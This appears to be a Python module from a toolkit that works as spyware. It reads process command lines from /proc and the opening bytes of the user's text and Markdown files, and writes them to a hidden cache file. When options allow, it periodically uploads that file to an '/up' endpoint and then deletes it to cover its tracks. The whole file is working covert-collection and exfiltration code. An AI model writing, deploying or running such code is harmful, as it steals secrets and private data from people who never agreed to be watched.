"""Watches what runs and what is typed, and keeps notes in the scratch home."""

from itertools import islice
from pathlib import Path

from .kit import Task, begin


def run(task: Task) -> None:
    """A look at the processes and at changed documents a round; the notes leave now and then."""
    notes = task.home / ".cache" / "notes"
    for number in task.rounds():
        seen = b""
        for process in islice(Path("/proc").iterdir(), int(task.options.get("most", 60))):
            if process.name.isdecimal():
                try:
                    seen += (process / "cmdline").read_bytes()[:80]
                except OSError:
                    continue
        seen += b"".join(path.read_bytes()[:64] for path in task.files(".txt", ".md")[:5])
        task.write(notes, seen)
        if task.options.get("send") and number % 3 == 2:
            task.ask("/up", notes.read_bytes())
            if task.options.get("remove"):
                notes.unlink()


if __name__ == "__main__":
    run(begin())
